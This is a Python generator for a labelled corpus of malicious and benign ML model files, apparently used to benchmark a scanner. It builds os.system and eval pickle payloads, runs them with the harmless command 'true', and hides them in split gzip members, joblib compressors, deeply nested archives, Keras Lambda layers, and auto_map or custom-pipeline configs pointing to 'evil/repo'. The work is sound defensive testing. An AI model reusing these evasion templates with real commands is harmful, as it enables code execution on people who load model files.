#!/usr/bin/env python3
"""A second labelled security corpus: loader paths the shared generator lacks (issue 13).

Usage:  python benchmarks/security_corpus2.py OUT_DIR

Writes OUT_DIR/labels.json in the shared corpus's shape ({path: {malicious, kind,
technique, format}}). Techniques: pickles behind every joblib compressor and split across
gzip members, containers nested past the scanner's depth, Keras Lambda layers (legacy
HDF5 and .keras), serialized ``builtins.eval`` in a Keras 3 config, ``auto_map`` in
tokenizer/preprocessor/processor configs and nested sub-configs, diffusers custom
components and pipelines, Git LFS pointers in place of weights, plus benign files of the
same shapes (metadata pickles of standard-library values, plain Keras configs, plain
pipeline indexes). Written before the scanner was tuned on it.

Safety: payloads are harmless (``true``); malicious pickles are assembled opcode by opcode;
nothing here is ever unpickled, loaded or rendered.
"""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import gzip
import io
import json
import lzma
import pickle
import sys
import tarfile
import uuid
import zipfile
import zlib
from pathlib import Path

EVIL = b"\x80\x02cos\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03."
EVAL = b"\x80\x02cbuiltins\neval\nq\x00X\x04\x00\x00\x00Noneq\x01\x85q\x02Rq\x03."
HDF5 = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + b"\x00" * 80
LABELS: dict[str, dict] = {}
OUT = Path(".")


def put(rel: str, data: bytes, malicious: bool, technique: str, fmt: str) -> None:
    p = OUT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    LABELS[rel] = {"malicious": malicious, "kind": "malicious" if malicious else "benign",
                   "technique": technique, "format": fmt}


def zipped(members: dict[str, bytes]) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members.items():
            z.writestr(n, d)
    return b.getvalue()


def compressed() -> None:
    half = len(EVIL) // 2
    put("mal/split_members.pkl.gz", gzip.compress(EVIL[:half]) + gzip.compress(EVIL[half:]),
        True, "gzip_two_members_split_pickle", "gzip")
    put("mal/second_member.joblib", gzip.compress(pickle.dumps([1])) + gzip.compress(EVIL),
        True, "gzip_second_member_pickle", "joblib")
    put("mal/model_bz2.joblib", bz2.compress(EVIL), True, "joblib_bz2", "joblib")
    put("mal/model_xz.joblib", lzma.compress(EVIL), True, "joblib_xz", "joblib")
    put("mal/model_lzma.joblib", lzma.compress(EVIL, format=lzma.FORMAT_ALONE), True,
        "joblib_lzma_alone", "joblib")
    put("mal/model_zlib.pkl", zlib.compress(EVAL), True, "joblib_zlib_eval", "joblib")
    put("mal/bz2_in_zip.zip", zipped({"est.joblib": bz2.compress(EVIL)}), True,
        "bz2_pickle_in_zip", "zip")
    put("mal/lz4.joblib", b"\x04\x22\x4d\x18" + b"\x64\x40\xa7" + b"\x00" * 40, True,
        "joblib_lz4_unreadable", "joblib")
    # a real LZ4 frame (one stored block) around the payload: joblib.load opens it with
    # the lz4 package; written by hand so the generator needs no lz4 install
    frame = (b"\x04\x22\x4d\x18\x60\x40\x82" + (len(EVIL) | 0x80000000).to_bytes(4, "little")
             + EVIL + bytes(4))
    put("mal/lz4_payload.joblib", frame, True, "joblib_lz4_payload", "joblib")
    put("ben/meta_bz2.joblib", bz2.compress(pickle.dumps({"a": [1, 2]}, protocol=4)), False,
        "joblib_bz2_plain", "joblib")


def nested() -> None:
    data = zipped({"payload.pkl": EVIL})
    for i in range(7):
        data = zipped({f"layer{i}.zip": data})
    put("mal/nested7.zip", data, True, "zip_nested_7_deep", "zip")
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as tf:
        inner = zipped({"deep.zip": zipped({"deeper.zip": zipped({"x.pkl": EVIL})})})
        ti = tarfile.TarInfo("bundle.zip")
        ti.size = len(inner)
        tf.addfile(ti, io.BytesIO(inner))
    put("mal/tgz_nested.tar.gz", gzip.compress(t.getvalue()), True, "tgz_zip_zip_zip", "gzip")


def keras() -> None:
    lam2 = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None,
            None], "function_type": "lambda", "module": "__main__"}}
    dense2 = {"class_name": "Dense", "config": {"name": "d", "units": 4}}
    seq = {"class_name": "Sequential", "config": {"name": "s", "layers": [dense2, lam2]}}
    put("mal/lambda.h5", HDF5 + b"model_config\x00" + json.dumps(seq).encode() + b"\x00" * 32,
        True, "keras_h5_lambda", "keras")
    ok = {"class_name": "Sequential", "config": {"name": "s", "layers": [dense2]}}
    put("ben/plain.h5", HDF5 + b"model_config\x00" + json.dumps(ok).encode() + b"\x00" * 32,
        False, "keras_h5_plain", "keras")
    d3 = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"},
          "registered_name": None}
    lam3 = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "l", "function": {"class_name": "__lambda__",
                                                 "config": {"code": "4wEAAAAA"}}}}
    ev = {"module": "builtins", "class_name": "function", "config": "eval",
          "registered_name": "function"}
    meta = json.dumps({"keras_version": "3.6.0"}).encode()
    for name, layer in (("lambda", lam3), ("builtins_eval", ev)):
        cfg = {"module": "keras", "class_name": "Sequential", "registered_name": None,
               "config": {"layers": [d3, layer]}}
        put(f"mal/{name}.keras", zipped({"metadata.json": meta, "config.json":
                                         json.dumps(cfg).encode(), "model.weights.h5": HDF5}),
            True, f"keras3_{name}", "keras")
    cfg = {"module": "keras", "class_name": "Sequential", "registered_name": None,
           "config": {"layers": [d3]}}
    put("ben/plain.keras", zipped({"metadata.json": meta, "config.json": json.dumps(cfg).encode(),
                                   "model.weights.h5": HDF5}), False, "keras3_plain", "keras")
    put("mal/saved_model/saved_model.pb", b"\x08\x01\x12\x05\x0a\x03abc", True,
        "tf_saved_model_unread", "tensorflow")


def remote() -> None:
    cases = {
        "tok/tokenizer_config.json": {"tokenizer_class": "T", "auto_map": {
            "AutoTokenizer": ["evil/repo--tokenization.T", None]}},
        "proc/preprocessor_config.json": {"auto_map": {
            "AutoImageProcessor": "evil/repo--image_processing.P"}},
        "nested/config.json": {"model_type": "llava", "text_config": {"auto_map": {
            "AutoModel": "evil/repo--modeling.M"}}},
        "procs/processor_config.json": {"image_processor": {"auto_map": {
            "AutoImageProcessor": "evil/repo--ip.P"}}},
    }
    for rel, cfg in cases.items():
        put(f"mal/{rel}", json.dumps(cfg).encode(), True, f"auto_map_{rel.split('/')[1]}",
            "json")
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
             "unet": ["diffusers", "UNet2DConditionModel"],
             "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None]}
    put("ben/sd/model_index.json", json.dumps(index).encode(), False, "diffusers_index", "json")
    put("mal/sd1/model_index.json", json.dumps(index | {"unet": ["my_unet", "MyUNet"]}).encode(),
        True, "diffusers_custom_component", "json")
    put("mal/sd2/model_index.json", json.dumps(index | {"_class_name": ["pipeline", "P"]})
        .encode(), True, "diffusers_custom_pipeline_class", "json")
    put("mal/sd3/model_index.json", json.dumps(index | {"custom_pipeline": "evil/pipe"}).encode(),
        True, "diffusers_custom_pipeline", "json")


def misc() -> None:
    ptr = (b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"ab" * 32
           + b"\nsize 4000000000\n")
    put("mal/lfs/pytorch_model.bin", ptr, True, "lfs_pointer_bin", "lfs-pointer")
    meta = {"od": collections.OrderedDict(a=1), "when": datetime.datetime(2024, 5, 1),
            "tod": datetime.time(3, 4), "dec": decimal.Decimal("0.1"), "id": uuid.UUID(int=1),
            "dd": collections.defaultdict(list), "s": {1}, "c": collections.Counter("ab")}
    for p in (2, 4, 5):
        put(f"ben/meta_p{p}.pkl", pickle.dumps(meta, protocol=p), False, f"stdlib_meta_p{p}",
            "pickle")
    put("ben/meta.pkl.gz", gzip.compress(pickle.dumps(meta, protocol=4)), False,
        "stdlib_meta_gzip", "gzip")


def main(argv: list[str]) -> int:
    global OUT
    if len(argv) != 2:
        print(__doc__)
        return 2
    OUT = Path(argv[1])
    OUT.mkdir(parents=True, exist_ok=True)
    for gen in (compressed, nested, keras, remote, misc):
        gen()
    (OUT / "labels.json").write_text(json.dumps(LABELS, indent=1, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
